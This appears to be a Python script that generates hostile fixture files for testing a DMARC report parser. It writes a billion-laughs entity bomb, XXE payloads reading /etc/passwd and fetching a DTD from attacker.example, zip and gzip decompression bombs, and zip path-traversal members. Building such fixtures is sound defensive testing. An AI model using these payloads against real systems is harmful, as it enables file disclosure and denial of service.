#!/usr/bin/env python3
"""Regenerate the hostile DMARC inputs in this directory (Python 3 stdlib).

Each file is small; what it does to a parser is in README.md. Run from this
directory: python3 make.py. The output is deterministic (fixed mtimes)."""
import gzip
import io
import os
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLES = os.path.join(HERE, "..", "dmarc")


def sample(name):
    with open(os.path.join(SAMPLES, name), "rb") as f:
        return f.read()


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


def zipped(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


REPORT = sample("001.xml")

write("billion-laughs.xml", b"""<?xml version="1.0"?>
<!DOCTYPE feedback [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<feedback><report_metadata><org_name>&lol9;</org_name></report_metadata></feedback>
""")

write("xxe.xml", b"""<?xml version="1.0"?>
<!DOCTYPE feedback [
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>
""")

write("xxe-parameter.xml", b"""<?xml version="1.0"?>
<!DOCTYPE feedback [
 <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
 %remote;
]>
<feedback/>
""")

write("external-dtd.xml", b"""<?xml version="1.0"?>
<!DOCTYPE feedback SYSTEM "file:///etc/passwd">
<feedback/>
""")

# 16 MiB of white space inside a report: gzip and zip make it ~16 KiB.
padding = b" " * (16 << 20)
bomb = REPORT.replace(b"<feedback>", b"<feedback>" + padding, 1)
write("bomb.xml.gz", gz(bomb))
write("bomb.zip", zipped([("report.xml", bomb)]))

write("traversal.zip", zipped([("../evil.xml", REPORT)]))
write("absolute.zip", zipped([("/abs.xml", REPORT)]))

whole = gz(REPORT)
write("truncated.xml.gz", whole[: len(whole) // 2])

# Containers inside containers, deeper than anyone sends: zip in zip x12.
nested = REPORT
for i in range(12):
    nested = zipped([("level%d.zip" % i if i else "report.xml", nested)])
write("nested.zip", nested)

write("many-members.zip", zipped([("junk%03d.txt" % i, b"x") for i in range(300)]))

write("deep.xml", b"<feedback>" + b"<x>" * 1000 + b"</x>" * 1000 + b"</feedback>")

write("no-report.eml", b"""From: someone@example.net
To: dmarc@example.com
Subject: Re: your DMARC reports
Date: Mon, 1 Jan 2024 00:00:00 +0000
Message-ID: <reply@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Please stop sending us reports.
""")


def strip_mbox(msg):
    # Messages of an mbox are separated by "From " lines; quote any inside.
    out = []
    for line in msg.split(b"\n"):
        out.append(b">" + line if line.startswith(b"From ") else line)
    return b"\n".join(out).rstrip(b"\n") + b"\n"


mbox = b""
for name in ("mailru.eml", "yahoo.eml", "102.eml"):
    mbox += b"From MAILER-DAEMON Mon Jan  1 00:00:00 2024\n"
    mbox += strip_mbox(sample(name).replace(b"\r\n", b"\n")) + b"\n"
write("three-reports.mbox", mbox)

md = os.path.join(HERE, "maildir")
for d in ("cur", "new", "tmp"):
    os.makedirs(os.path.join(md, d), exist_ok=True)
with open(os.path.join(md, "tmp", ".keep"), "wb"):
    pass
write(os.path.join("maildir", "cur", "1700000001.M1P1.mx:2,S"), sample("mailru.eml"))
write(os.path.join("maildir", "new", "1700000002.M2P2.mx"), sample("yahoo.eml"))
write(os.path.join("maildir", "new", "1700000003.M3P3.mx"),
      open(os.path.join(HERE, "no-report.eml"), "rb").read())

# Not hostile, but containers real senders produce: gzip inside gzip, and a
# stray CRLF after the gzip stream (some mail gateways append one).
write("double.xml.gz", gz(gz(REPORT)))
write("trailing-junk.xml.gz", gz(REPORT) + b"\r\n")

# Zip member choice: every *.xml member is a report; without one, the first
# member whatever its name (here an empty name).
write("two-reports.zip", zipped([("README.txt", b"not a report"), ("a.xml", REPORT),
                                 ("b.XML", sample("005.xml"))]))
write("unnamed-member.zip", zipped([("", REPORT)]))

# A zip inside a zip with eight members, each 600 KiB of report when
# inflated: every member is under a 1 MiB max_bytes, all of them together
# are not. Each member and each level of nesting must not get a budget of
# its own (256 members of 256 MiB, nested, would be work without end).
member = REPORT.replace(b"<feedback>", b"<feedback>" + b" " * (600 << 10), 1)
inner = zipped([("r%d.xml" % i, member) for i in range(8)])
write("nested-bomb.zip", zipped([("inner.zip", inner)]))
